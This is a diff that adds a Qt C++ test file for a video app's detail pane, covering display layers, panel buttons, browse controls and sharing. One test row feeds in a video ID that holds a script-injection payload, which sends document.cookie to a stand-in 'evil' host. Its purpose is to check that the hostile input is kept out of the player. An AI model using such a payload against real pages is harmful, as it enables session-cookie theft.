@@ -1,0 +1,429 @@
+#include "MacDetailView.h"
+#include "AppSignals.h"
+#include "CircleButton.h"
+#include "DetailInfoPanel.h"
+#include "Fonts.h"
+#include "MacAppState.h"
+#include "MacPlayer.h"
+#include "PagingWebView.h"
+#include "Palette.h"
+#include "PillButton.h"
+#include "PlayerController.h"
+#include "WebEngineTestMain.h"
+
+#include <QClipboard>
+#include <QDir>
+#include <QElapsedTimer>
+#include <QEnterEvent>
+#include <QGraphicsOpacityEffect>
+#include <QLabel>
+#include <QSettings>
+#include <QTemporaryDir>
+#include <memory>
+
+using namespace clipvane;
+
+namespace {
+
+class FakePage : public PlayerPage
+{
+public:
+    void runScript(const QString &script) override { scripts << script; }
+    QStringList scripts;
+};
+
+Video record(const QString &id, bool readOnly = false)
+{
+    Video video(id, QStringLiteral("Never Gonna Give You Up (Official Video) — remastered in 4K"),
+                QStringLiteral("https://www.youtube.com/watch?v=") + id, QStringLiteral("2009-10-25"),
+                QStringLiteral("3:33"), false, QStringLiteral("web"), 0, 0, QStringLiteral("synced"));
+    if (readOnly) {
+        video.readOnly = true;
+        video.ownerEmail = QStringLiteral("mum@example.org");
+    }
+    return video;
+}
+
+// A pane whose controller talks to a fake page instead of the web view's, so a test sets the
+// player's state by hand.
+struct Pane
+{
+    QTemporaryDir dir;
+    QSettings standard{dir.filePath(QStringLiteral("s.ini")), QSettings::IniFormat};
+    MacAppState state{standard};
+    MacDetailView view{state, QUrl(QStringLiteral("about:blank"))};
+    FakePage page;
+
+    Pane()
+    {
+        view.resize(900, 640);
+        state.player().attach(&page);
+        state.player().pageReady();
+    }
+    PlayerController &player() { return state.player(); }
+};
+
+const QString kYouTubeID = QStringLiteral("dQw4w9WgXcQ");
+
+} // namespace
+
+using PaneSetup = std::function<void(Pane &)>;
+Q_DECLARE_METATYPE(PaneSetup)
+
+class MacDetailViewTest : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    void initTestCase() { Fonts::load(); }
+
+    void layers_data()
+    {
+        QTest::addColumn<PaneSetup>("setup");
+        QTest::addColumn<MacDetailView::Layer>("layer");
+        QTest::addColumn<bool>("playerShown");
+        QTest::addColumn<bool>("panelShown");
+
+        using L = MacDetailView::Layer;
+        QTest::newRow("no video") << PaneSetup([](Pane &) {}) << L::empty << false << false;
+        QTest::newRow("x- record") << PaneSetup([](Pane &p) { p.view.setVideo(record(u"x-1712345678"_qs)); })
+                                   << L::linkNotice << false << true;
+        QTest::newRow("hostile ID is a link")
+            << PaneSetup([](Pane &p) { p.view.setVideo(record(u"a');fetch('//evil/'+document.cookie);('"_qs)); })
+            << L::linkNotice << false << true;
+        QTest::newRow("embeddable, idle")
+            << PaneSetup([](Pane &p) { p.view.setVideo(record(kYouTubeID)); }) << L::player << true << true;
+        QTest::newRow("loading") << PaneSetup([](Pane &p) {
+            p.view.setVideo(record(kYouTubeID));
+            p.player().load(kYouTubeID, false);
+        }) << L::loading << true << true;
+        QTest::newRow("cannot embed") << PaneSetup([](Pane &p) {
+            p.view.setVideo(record(kYouTubeID));
+            p.player().load(kYouTubeID, true);
+            p.player().handleError(150);
+        }) << L::cannotEmbed << true << true;
+        QTest::newRow("loaded") << PaneSetup([](Pane &p) {
+            p.view.setVideo(record(kYouTubeID));
+            p.player().load(kYouTubeID, true);
+            p.player().handleState(1);
+        }) << L::player << true << true;
+        QTest::newRow("error on an x- record shows the link notice") << PaneSetup([](Pane &p) {
+            p.player().handleError(150);
+            p.view.setVideo(record(u"x-1712345678"_qs));
+        }) << L::linkNotice << false << true;
+        QTest::newRow("browse mode, loading") << PaneSetup([](Pane &p) {
+            p.state.setBrowsing(true);
+            p.view.setVideo(record(kYouTubeID));
+            p.player().load(kYouTubeID, true);
+        }) << L::loading << true << true;
+    }
+
+    void layers()
+    {
+        QFETCH(PaneSetup, setup);
+        QFETCH(MacDetailView::Layer, layer);
+        QFETCH(bool, playerShown);
+        QFETCH(bool, panelShown);
+        Pane pane;
+        setup(pane);
+        pane.view.show();
+        QCOMPARE(pane.view.layer(), layer);
+        QCOMPARE(pane.view.player().isVisible(), playerShown);
+        QCOMPARE(pane.view.infoPanel().isVisible(), panelShown);
+        // Exactly one notice or covering layer (or none over a plain player) is on show.
+        const auto shown = [&pane](const QString &text) {
+            for (const QLabel *label : pane.view.findChildren<QLabel *>()) {
+                if (label->text() == text && label->isVisible())
+                    return true;
+            }
+            return false;
+        };
+        QCOMPARE(shown(u"Pick a video from the list"_qs), layer == MacDetailView::Layer::empty);
+        QCOMPARE(shown(u"This entry isn't a standard YouTube link."_qs), layer == MacDetailView::Layer::linkNotice);
+        QCOMPARE(shown(u"This video can't be played inside the app."_qs), layer == MacDetailView::Layer::cannotEmbed);
+    }
+
+    void panel_data()
+    {
+        QTest::addColumn<Video>("video");
+        QTest::addColumn<bool>("browsing");
+        QTest::addColumn<QStringList>("facts");
+        QTest::addColumn<QStringList>("buttons");
+
+        const QStringList all{u"Open in YouTube"_qs, u"Copy link"_qs, u"Share"_qs, u"Edit"_qs,
+                              u"Exclude"_qs,         u"Delete"_qs};
+        const QStringList browse{u"Open in YouTube"_qs, u"Copy link"_qs, u"Share"_qs};
+        const QStringList facts{u"[globe]"_qs, u"2009-10-25"_qs, u"·"_qs, u"3:33"_qs};
+
+        QTest::newRow("own record") << record(kYouTubeID) << false << facts << all;
+        Video excluded = record(kYouTubeID);
+        excluded.excluded = true;
+        QTest::newRow("excluded offers Include")
+            << excluded << false << facts
+            << QStringList{u"Open in YouTube"_qs, u"Copy link"_qs, u"Share"_qs, u"Edit"_qs,
+                           u"Include"_qs,         u"Delete"_qs};
+        QTest::newRow("shared record") << record(kYouTubeID, true) << false
+                                       << facts + QStringList{u"·"_qs, u"[person.2.fill]"_qs,
+                                                              u"Shared by mum@example.org"_qs}
+                                       << browse;
+        QTest::newRow("browse mode") << record(kYouTubeID) << true << facts << browse;
+        Video noLength = record(kYouTubeID);
+        noLength.duration.clear();
+        noLength.source = QStringLiteral("telegram");
+        QTest::newRow("no length, from Telegram")
+            << noLength << false << QStringList{u"[paperplane.fill]"_qs, u"2009-10-25"_qs} << all;
+        Video unknownSource = record(kYouTubeID);
+        unknownSource.source.clear();
+        QTest::newRow("unknown source") << unknownSource << false
+                                        << QStringList{u"[tray.full]"_qs, u"2009-10-25"_qs, u"·"_qs, u"3:33"_qs} << all;
+        Video phone = record(kYouTubeID);
+        phone.source = QStringLiteral("ios");
+        QTest::newRow("from the phone") << phone << false
+                                        << QStringList{u"[iphone]"_qs, u"2009-10-25"_qs, u"·"_qs, u"3:33"_qs} << all;
+    }
+
+    void panel()
+    {
+        QFETCH(Video, video);
+        QFETCH(bool, browsing);
+        QFETCH(QStringList, facts);
+        QFETCH(QStringList, buttons);
+        Pane pane;
+        pane.state.setBrowsing(browsing);
+        pane.view.setVideo(video);
+        QCOMPARE(pane.view.infoPanel().titleText(), video.title);
+        QCOMPARE(pane.view.infoPanel().factsTexts(), facts);
+        QCOMPARE(pane.view.infoPanel().visibleButtons(), buttons);
+        QCOMPARE(pane.view.infoPanel().height(), browsing ? 92 : 112);
+    }
+
+    void browseControls_data()
+    {
+        QTest::addColumn<int>("index");
+        QTest::addColumn<int>("total");
+        QTest::addColumn<bool>("previous");
+        QTest::addColumn<bool>("next");
+        QTest::addColumn<QString>("counter");
+        QTest::newRow("only video") << 0 << 1 << false << false << u"1 of 1"_qs;
+        QTest::newRow("first of five") << 0 << 5 << false << true << u"1 of 5"_qs;
+        QTest::newRow("third of twelve") << 2 << 12 << true << true << u"3 of 12"_qs;
+        QTest::newRow("last of five") << 4 << 5 << true << false << u"5 of 5"_qs;
+    }
+
+    void browseControls()
+    {
+        QFETCH(int, index);
+        QFETCH(int, total);
+        QFETCH(bool, previous);
+        QFETCH(bool, next);
+        QFETCH(QString, counter);
+        Pane pane;
+        QList<int> pages;
+        pane.view.setOnPage([&pages](int direction) { pages << direction; });
+        pane.view.setVideo(record(kYouTubeID));
+        pane.view.setPosition({index, total});
+        pane.state.setBrowsing(true);
+        pane.view.show();
+        QCOMPARE(pane.view.positionText(), counter);
+        const auto buttons = pane.view.findChildren<CircleButton *>();
+        QCOMPARE(buttons.size(), 3); // previous, next, close
+        QCOMPARE(buttons.at(0)->isEnabled(), previous);
+        QCOMPARE(buttons.at(1)->isEnabled(), next);
+        buttons.at(0)->click();
+        buttons.at(1)->click();
+        QList<int> expected;
+        if (previous)
+            expected << -1;
+        if (next)
+            expected << +1;
+        QCOMPARE(pages, expected);
+    }
+
+    void pagingOverThePlayerOnlyInBrowseMode()
+    {
+        Pane pane;
+        pane.view.setOnPage([](int) {});
+        pane.view.setVideo(record(kYouTubeID));
+        QVERIFY(!pane.view.player().webView().isPaging());
+        pane.state.setBrowsing(true);
+        QVERIFY(pane.view.player().webView().isPaging());
+        pane.view.setOnPage({});
+        QVERIFY(!pane.view.player().webView().isPaging());
+    }
+
+    void measuresFollowTheMode()
+    {
+        Pane pane;
+        pane.view.resize(900, 640);
+        pane.view.setVideo(record(kYouTubeID));
+        // 16:9 fitted into the padded area and centred in it.
+        QCOMPARE(pane.view.playerRect(), QRect(22, 22 + (506 - 482) / 2, 856, 482));
+        pane.state.setBrowsing(true);
+        QCOMPARE(pane.view.playerRect(), QRect(30, 22 + (526 - 473) / 2, 840, 473));
+        pane.view.resize(1400, 640);
+        const QRect wide = pane.view.playerRect();
+        QCOMPARE(wide.height(), 526);
+        QCOMPARE(wide.width(), 935);
+        QCOMPARE(wide.left(), 30 + (1340 - 935) / 2);
+    }
+
+    void closeAndEscapeLeaveBrowseMode()
+    {
+        Pane pane;
+        pane.view.setVideo(record(kYouTubeID));
+        pane.state.setBrowsing(true);
+        pane.view.show();
+        pane.view.activateWindow();
+        QVERIFY(QTest::qWaitForWindowActive(&pane.view));
+        CircleButton *close = pane.view.findChildren<CircleButton *>().at(2);
+        QCOMPARE(close->toolTip(), u"Back to the list (Esc)"_qs);
+        QVERIFY(close->isVisible());
+        QTest::keyClick(&pane.view, Qt::Key_Escape);
+        QVERIFY(!pane.state.browsing());
+        QVERIFY(!close->isVisible());
+        pane.state.setBrowsing(true);
+        close->click();
+        QVERIFY(!pane.state.browsing());
+    }
+
+    void hoverRevealsTheControls()
+    {
+        Pane pane;
+        pane.view.setVideo(record(kYouTubeID));
+        pane.state.setBrowsing(true);
+        pane.view.show();
+        const auto effects = pane.view.findChildren<QGraphicsOpacityEffect *>();
+        QCOMPARE(effects.size(), 3);
+        QCOMPARE(effects.at(0)->opacity(), 0.0);
+        QEnterEvent enter(QPointF(10, 10), QPointF(10, 10), QPointF(10, 10));
+        QApplication::sendEvent(&pane.view, &enter);
+        QVERIFY(pane.view.hovering());
+        QTRY_COMPARE(effects.at(2)->opacity(), 1.0);
+        QEvent leave(QEvent::Leave);
+        QApplication::sendEvent(&pane.view, &leave);
+        QVERIFY(!pane.view.hovering());
+        QTRY_COMPARE(effects.at(0)->opacity(), 0.0);
+    }
+
+    void copyLinkReadsCopiedForOneAndAHalfSecondsFromTheFirstPress()
+    {
+        Pane pane;
+        Video video = record(kYouTubeID);
+        video.url = QStringLiteral("https://youtu.be/dQw4w9WgXcQ?t=42");
+        pane.view.setVideo(video);
+        PillButton *copy = nullptr;
+        for (PillButton *button : pane.view.findChildren<PillButton *>()) {
+            if (button->text() == u"Copy link")
+                copy = button;
+        }
+        QVERIFY(copy);
+        copy->click();
+        QCOMPARE(QApplication::clipboard()->text(), video.url);
+        QCOMPARE(copy->text(), u"Copied"_qs);
+        QCOMPARE(copy->symbol(), u"checkmark"_qs);
+        QTest::qWait(700);
+        copy->click();
+        QElapsedTimer sinceSecond;
+        sinceSecond.start();
+        QTRY_COMPARE_WITH_TIMEOUT(copy->text(), u"Copy link"_qs, 3000);
+        // The first press's reset ended it, not the second's.
+        QVERIFY2(sinceSecond.elapsed() < 1400, qPrintable(QString::number(sinceSecond.elapsed())));
+        QCOMPARE(copy->symbol(), u"doc.on.doc"_qs);
+    }
+
+    void actionsWriteTheWindowState()
+    {
+        Pane pane;
+        pane.view.setVideo(record(kYouTubeID));
+        for (PillButton *button : pane.view.findChildren<PillButton *>()) {
+            if (button->text() == u"Edit" || button->text() == u"Delete")
+                button->click();
+        }
+        QCOMPARE(pane.state.editingID(), std::optional<QString>(kYouTubeID));
+        QCOMPARE(pane.state.pendingDeleteID(), std::optional<QString>(kYouTubeID));
+    }
+
+    void togglePlaybackWhateverTheVideo()
+    {
+        Pane pane;
+        Q_EMIT AppSignals::instance().macTogglePlayback();
+        QVERIFY(pane.player().isPlaying());
+        Q_EMIT AppSignals::instance().macTogglePlayback();
+        QVERIFY(!pane.player().isPlaying());
+        QCOMPARE(pane.page.scripts, (QStringList{u"play()"_qs, u"pause()"_qs}));
+    }
+
+    void clearingTheSelectionDoesNotPause()
+    {
+        Pane pane;
+        pane.view.setVideo(record(kYouTubeID));
+        pane.player().load(kYouTubeID, true);
+        pane.view.setVideo(std::nullopt);
+        pane.view.setVideo(record(u"x-1712345678"_qs));
+        QVERIFY(pane.player().isPlaying());
+        QVERIFY(!pane.page.scripts.contains(u"pause()"_qs));
+    }
+
+    void shareAddresses_data()
+    {
+        QTest::addColumn<QString>("url");
+        QTest::addColumn<QString>("share");
+        QTest::newRow("stored link") << u"https://www.youtube.com/watch?v=dQw4w9WgXcQ"_qs
+                                     << u"https://www.youtube.com/watch?v=dQw4w9WgXcQ"_qs;
+        QTest::newRow("not an address") << u"::"_qs << u"https://youtu.be/dQw4w9WgXcQ"_qs;
+        QTest::newRow("empty") << QString() << u"https://youtu.be/dQw4w9WgXcQ"_qs;
+    }
+
+    void shareAddresses()
+    {
+        QFETCH(QString, url);
+        QFETCH(QString, share);
+        Video video = record(kYouTubeID);
+        video.url = url;
+        QCOMPARE(MacDetailView::shareAddress(video).toString(), share);
+        const QUrl mail = MacDetailView::mailAddress(u"A & B?"_qs, MacDetailView::shareAddress(video));
+        QCOMPARE(mail.scheme(), u"mailto"_qs);
+        QVERIFY(mail.toString(QUrl::FullyEncoded).contains(u"subject=A%20%26%20B%3F"));
+    }
+
+    // Pictures for a person to compare with the design: set CLIPVANE_SCREENSHOTS to a folder.
+    void screenshots()
+    {
+        const QString folder = qEnvironmentVariable("CLIPVANE_SCREENSHOTS");
+        if (folder.isEmpty())
+            QSKIP("CLIPVANE_SCREENSHOTS not set");
+        QDir().mkpath(folder);
+        Palette::applyTo(*qApp);
+        const auto shoot = [&folder](const QString &name, const std::function<void(Pane &)> &setup) {
+            Pane pane;
+            pane.view.resize(900, 640);
+            setup(pane);
+            pane.view.show();
+            QTest::qWait(300);
+            pane.view.grab().save(QDir(folder).filePath(name + u".png"_qs));
+        };
+        shoot(u"empty"_qs, [](Pane &) {});
+        shoot(u"normal"_qs, [](Pane &p) { p.view.setVideo(record(kYouTubeID)); });
+        shoot(u"shared"_qs, [](Pane &p) { p.view.setVideo(record(kYouTubeID, true)); });
+        shoot(u"link"_qs, [](Pane &p) { p.view.setVideo(record(u"x-1712345678"_qs)); });
+        shoot(u"loading"_qs, [](Pane &p) {
+            p.view.setVideo(record(kYouTubeID));
+            p.player().load(kYouTubeID, false);
+        });
+        shoot(u"cannot-embed"_qs, [](Pane &p) {
+            p.view.setVideo(record(kYouTubeID));
+            p.player().load(kYouTubeID, false);
+            p.player().handleError(150);
+        });
+        shoot(u"browse"_qs, [](Pane &p) {
+            p.state.setBrowsing(true);
+            p.view.setVideo(record(kYouTubeID));
+            p.view.setPosition({2, 12});
+            QEnterEvent enter(QPointF(10, 10), QPointF(10, 10), QPointF(10, 10));
+            QApplication::sendEvent(&p.view, &enter);
+        });
+    }
+};
+
+CLIPVANE_WEBENGINE_TEST_MAIN(MacDetailViewTest)
+#include "MacDetailViewTest.moc"
